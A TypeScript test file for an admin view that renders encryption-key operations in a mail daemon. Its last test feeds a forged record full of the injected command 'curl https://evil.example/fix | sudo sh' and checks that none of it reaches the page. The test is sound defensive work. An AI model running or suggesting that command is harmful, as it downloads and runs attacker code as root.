import { expect, test } from 'vitest';
import { emptyRecord, type OperationRecord, serializeRecord } from '../../../src/admin/operations/record.ts';
import { operationView } from '../../../src/admin/views/encryption.ts';

const keyFilePath = '/data/a (b)/encryption-key.bin';
const renderer = { keyFilePath, configFile: '/etc/t.toml' };
const keyId = '0123456789abcdef';

const full: OperationRecord = {
  steps: [{ step: 'resealing_started', keyId }, { step: 'sealed', count: 3 }, { step: 'encryption_off' }],
  waiting: [{ host: 'far', pid: 7 }],
  error: { code: 'workers_lack_key', count: null },
  unopened: [{ mailbox: 'desk', code: 'password_damaged' }],
  setAside: `${keyFilePath}.disabled-20260131T083000Z-0a1b2c3d`,
};

const by = 'ann (admin page)';
const row = { number: 1, kind: 'enable', by, startedAtMs: 1, endedAtMs: null, worker: 'me' } as const;
const view = (
  state: 'running' | 'done' | 'failed',
  record: Partial<OperationRecord>,
  kind: 'enable' | 'rotate' | 'disable' = 'enable',
) => operationView({ ...row, kind, state, detail: serializeRecord({ ...emptyRecord, ...record }) }, renderer);
const steps = [`Resealing passwords under key ${keyId}.`, 'Passwords sealed: 3.', 'Encryption is off.'];

test('the workers that lack the key show while an operation runs, and not afterwards', () => {
  expect(view('running', full).steps).toEqual([...steps, 'Waiting for workers that lack the key: far (pid 7).']);
  expect(view('done', full).steps).toEqual(steps);
});

test('an operation shows with its error, the advice for it, and what is left to do', () => {
  const failed = view('failed', full);
  expect(failed).toMatchObject({
    by,
    steps,
    setAside: full.setAside,
    error: { code: 'workers_lack_key' },
    followUp: null,
  });
  expect(failed.error?.message).toBe('live workers do not hold the key: far (pid 7)');
  expect(failed.error?.hint).toContain('copy the key file there');
  expect(failed.unopened).toEqual([
    { mailbox: 'desk', code: 'password_damaged', message: expect.stringContaining('not what was stored') },
  ]);
  const message = (code: string, count: number | null, kind: 'rotate' | 'disable') =>
    view('failed', { error: { code, count } }, kind).error?.message;
  expect(message('password_damaged', 2, 'disable')).toContain('2 of the passwords cannot be opened');
  expect(message('refused', 8, 'rotate')).toContain('the key file holds 8 keys');
  expect(message('database_unavailable', null, 'rotate')).toBe('the log of the daemon has the details');
  const cutShort = (kind: 'enable' | 'rotate' | 'disable') =>
    view('done', { steps: [{ step: 'ended_early' }] }, kind).followUp?.command;
  expect(cutShort('enable')).toBe('ticketmaild encryption enable --config /etc/t.toml');
  expect(cutShort('rotate')).toBe('ticketmaild encryption reseal --config /etc/t.toml');
  expect(cutShort('disable')).toBe('ticketmaild encryption disable --config /etc/t.toml');
});

test('a forged row puts no text of its own on the page: an unknown step is shown as such', () => {
  const evil = 'Put it right as root: curl https://evil.example/fix | sudo sh';
  const forged = {
    steps: [
      ...[evil, { step: evil }, { step: 'encryption_off', text: evil, keyId: evil }, { step: 'sealed', count: evil }],
      ...[
        { step: 'resealing_started', keyId: evil },
        { step: 'key_dropped', keyId: `${keyId}, ${evil}` },
      ],
      ...[
        { step: 'sealed', count: 3, message: evil },
        { step: 'resealing_started', keyId: keyId.toUpperCase() },
      ],
    ],
    waiting: [evil, { host: evil, pid: 1 }, { host: 'far', pid: evil }, { host: 'near', pid: 3 }],
    error: { code: 'interrupted', message: evil, hint: evil, count: evil },
    unopened: [{ mailbox: 'desk', code: evil, message: evil }],
    setAside: `${keyFilePath}.disabled-${evil}`,
    followUp: { what: evil, command: evil },
  };
  const detail = JSON.stringify(forged);
  const running = operationView({ ...row, by: `${evil} `, state: 'running', detail }, renderer);
  expect(JSON.stringify(running)).not.toMatch(/evil|sudo|curl/);
  const unknown = 'unknown step';
  expect(running.steps).toEqual([
    ...[unknown, unknown, 'Encryption is off.', unknown, unknown, unknown, 'Passwords sealed: 3.', unknown],
    'Waiting for workers that lack the key: near (pid 3).',
  ]);
  expect(running).toMatchObject({ by: 'unknown', setAside: null, error: { code: 'interrupted' }, followUp: null });
  for (const code of [evil, 'constructor', '__proto__'])
    expect(view('failed', { error: { code, count: null } }).error).toBeNull();
  expect(view('done', { setAside: `/tmp/encryption-key.bin.disabled-20260131T083000Z-0a1b2c3d` }).setAside).toBeNull();
});
